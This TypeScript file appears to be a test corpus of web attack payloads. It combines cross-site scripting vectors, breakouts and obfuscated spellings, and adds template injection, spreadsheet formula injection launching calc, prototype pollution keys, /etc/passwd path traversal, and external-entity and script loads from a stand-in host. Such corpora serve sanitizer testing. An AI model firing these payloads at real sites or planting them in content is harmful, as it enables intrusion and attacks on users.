/**
 * Words that would run as a script wherever they are written into a page raw: after the kinds that collections of such words
 * hold, made by crossing what runs, what it breaks out of, and how it is spelt.
 */

/** What a payload does where it runs. */
const ACT = "alert(1)";

/** Elements that run something by themselves, or when they are used. */
const VECTORS: readonly string[] = [
  `<script>${ACT}</script>`,
  `<script src=https://elsewhere.example/x.js></script>`,
  `<img src=x onerror=${ACT}>`,
  `<img src="x" onerror="${ACT}" alt=''>`,
  `<img srcset=x onerror='${ACT}'>`,
  `<svg onload=${ACT}>`,
  `<svg/onload=${ACT}//`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${ACT} /><a>x</a></svg>`,
  `<svg><foreignObject><img src=x onerror=${ACT}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${ACT}>`,
  `<math href="javascript:${ACT}">x</math>`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<iframe src="javascript:parent.${ACT}"></iframe>`,
  `<object data="javascript:${ACT}"></object>`,
  `<embed src="javascript:${ACT}">`,
  `<details open ontoggle=${ACT}>x</details>`,
  `<video><source onerror=${ACT}></video>`,
  `<audio src=x onerror=${ACT}></audio>`,
  `<input autofocus onfocus=${ACT}>`,
  `<select autofocus onfocus=${ACT}></select>`,
  `<textarea autofocus onfocus=${ACT}></textarea>`,
  `<body onload=${ACT}>`,
  `<body onpageshow=${ACT}>`,
  `<style onload=${ACT}></style>`,
  `<style>@import 'https://elsewhere.example/x.css'</style>`,
  `<link rel=stylesheet href=https://elsewhere.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ACT}">`,
  `<base href=https://elsewhere.example/>`,
  `<form action=javascript:${ACT}><button>x</button></form>`,
  `<button autofocus onfocus=${ACT} formaction=javascript:${ACT}>x</button>`,
  `<a href="javascript:${ACT}" autofocus onfocus=${ACT}>x</a>`,
  `<p style="animation:x" onanimationstart=${ACT} onpointerenter=${ACT}>x</p>`,
  `<template><img src=x onerror=${ACT}></template>`,
  `<marquee onstart=${ACT}>x</marquee>`,
];

/** What the words close before they begin: an attribute, an element whose text is no markup, a comment, a string. */
const BREAKOUTS: readonly string[] = [
  "",
  `">`,
  `'>`,
  `</title>`,
  `</script>`,
  `</textarea></style>`,
  `--><!-- -->`,
  `]]>`,
  `"}'});//`,
];

const SPELLINGS: readonly ((words: string) => string)[] = [
  (words) => words,
  (words) => words.replace(/<(\/?)([a-z])/g, (_, slash: string, letter: string) => `<${slash}${letter.toUpperCase()}`),
  (words) => words.replace(/(<[a-z]+) /g, "$1/").replaceAll("javascript:", "java&#x09;script:"),
  (words) => words.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
];

/** What needs no element: attributes, addresses, templates, strings and formulas; and words that upset by what they are. */
const BARE: readonly string[] = [
  `" onmouseover=${ACT} autofocus onfocus=${ACT} x="`,
  `' onmouseover=${ACT} autofocus onfocus=${ACT} x='`,
  "` onmouseover=alert(1) x=`",
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  `[x](javascript:${ACT})`,
  `![x](https://elsewhere.example/x.png)`,
  `<javascript:${ACT}>`,
  `{{constructor.constructor('${ACT}')()}}`,
  `{% raw %}{{ ${ACT} }}`,
  `<%= ${ACT} %>`,
  `\${${ACT}}`,
  `'-${ACT}-'`,
  `";${ACT};//`,
  `\\";${ACT};//`,
  `\\u003cscript\\u003e${ACT}\\u003c/script\\u003e`,
  `%3Cscript%3E${ACT}%3C/script%3E`,
  `+ADw-script+AD4-${ACT}+ADw-/script+AD4-`,
  `＜script＞${ACT}＜/script＞`,
  `=HYPERLINK("javascript:${ACT}")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `__proto__ constructor toString`,
  `../../../etc/passwd`,
  `#"><img src=x onerror=${ACT}>`,
  `?q="><img src=x onerror=${ACT}>`,
  `<![CDATA[<img src=x onerror=${ACT}>]]>`,
  `<?xml-stylesheet href="javascript:${ACT}"?>`,
  `<!ENTITY x SYSTEM "https://elsewhere.example/x">&x;`,
  `<!-- --!><img src=x onerror=${ACT}>`,
];

/** Each vector in each spelling, behind one breakout after the other. All are different. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...BARE,
    ...BREAKOUTS.flatMap((_, step) =>
      SPELLINGS.flatMap((spell, turn) =>
        VECTORS.map((vector, at) => (BREAKOUTS[(at + step + turn) % BREAKOUTS.length] ?? "") + spell(vector)),
      ),
    ),
  ]),
];
